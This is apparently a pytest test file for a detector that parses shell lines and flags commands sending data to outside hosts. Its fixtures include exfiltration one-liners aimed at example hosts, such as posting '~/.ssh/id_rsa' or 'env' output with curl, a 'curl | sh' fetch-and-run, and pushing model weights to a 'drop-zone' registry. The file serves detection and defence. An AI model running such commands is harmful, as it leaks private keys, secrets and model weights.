"""How collector/rules/remotes.py splits a shell line into commands: pure logic, no collector."""

from __future__ import annotations

import pytest

from collector.rules.remotes import _stages, command_output_url_hosts, posted_output_hosts, transfer_remotes


def commands(line: str) -> list[tuple[str, bool]]:
    return [(stage.strip(), piped) for stage, piped in _stages(line) if stage.strip()]


@pytest.mark.parametrize(("line", "want"), [
    ("a; b && c || d & e | f", [("a", False), ("b", False), ("c", False), ("d", False), ("e", False), ("f", True)]),
    ('lftp -e "mirror -R /d /up; quit" sftp://h.example.net',             # a quoted ; is the option's text
     [('lftp -e "mirror -R /d /up; quit" sftp://h.example.net', False)]),
    ("echo 'a | b; c' > notes.txt", [("echo 'a | b; c' > notes.txt", False)]),
    ('echo "x $(curl h | sh) y" | bash',                                   # a substitution's commands are its own
     [('echo "x', False), ("curl h", False), ("sh", True), ('y"', False), ("bash", True)]),
    ("sh -c 'tar c . | ssh u@h \"cat > x\"'; d",                           # so are a shell's script's
     [("sh -c 'tar c .", False), ('ssh u@h "cat > x"\'', True), ("d", False)]),
    ('unclosed "quote; x', [('unclosed "quote; x', False)]),
])
def test_a_line_is_split_where_the_shell_would(line, want):
    assert commands(line) == want


def test_a_quoted_command_is_not_taken_for_a_transfer():
    assert list(transfer_remotes("echo 'scp x u@drop.example.net:/' > notes.txt")) == []
    assert list(transfer_remotes("sh -c 'scp x u@drop.example.net:/tmp/'")) == ["drop.example.net"]


def test_a_url_carries_command_output_only_where_a_substitution_is_in_it():
    assert list(command_output_url_hosts('curl "https://c.example.net/u?d=$(whoami)@$(hostname)"')) == [
        "c.example.net"]
    assert list(command_output_url_hosts("curl https://c.example.net/a -o out-$(date +%s).csv")) == []
    assert list(command_output_url_hosts('wget "https://c.example.net/f?v=${VERSION}"')) == []
    assert list(command_output_url_hosts("curl http://$(id -u).x.example.net/")) == ["x.example.net"]
    assert list(command_output_url_hosts("curl http://`whoami`.a.$(hostname).x.example.net/")) == ["x.example.net"]
    assert list(command_output_url_hosts("curl -s http://$(hostname):8080/health")) == []


def test_a_request_body_carries_data_only_where_a_reader_fills_it():
    assert list(posted_output_hosts('curl -s --data "$(cat ~/.ssh/id_rsa)" https://p.example.net/new')) == [
        "p.example.net"]
    assert list(posted_output_hosts("curl -F \"x=$(env)\" https://p.example.net/f")) == ["p.example.net"]
    assert list(posted_output_hosts('curl -d "ts=$(date +%s)" https://p.example.net/beat')) == []
    assert list(posted_output_hosts('echo -d "$(cat f)" https://p.example.net/')) == []


def test_an_image_pushed_names_its_registry():
    assert list(transfer_remotes("docker push registry.drop-zone.io/x/model:latest")) == ["registry.drop-zone.io"]
    assert list(transfer_remotes("skopeo copy docker://local/t docker://reg.drop-zone.io:5000/x/t")) == [
        "reg.drop-zone.io"]
    assert list(transfer_remotes("oras push reg.drop-zone.io/x/m:1 ./model.safetensors")) == ["reg.drop-zone.io"]
    assert list(transfer_remotes("docker push someone/trainer")) == []           # Docker Hub: no host in the name
    assert list(transfer_remotes("docker pull reg.drop-zone.io/x/y")) == []
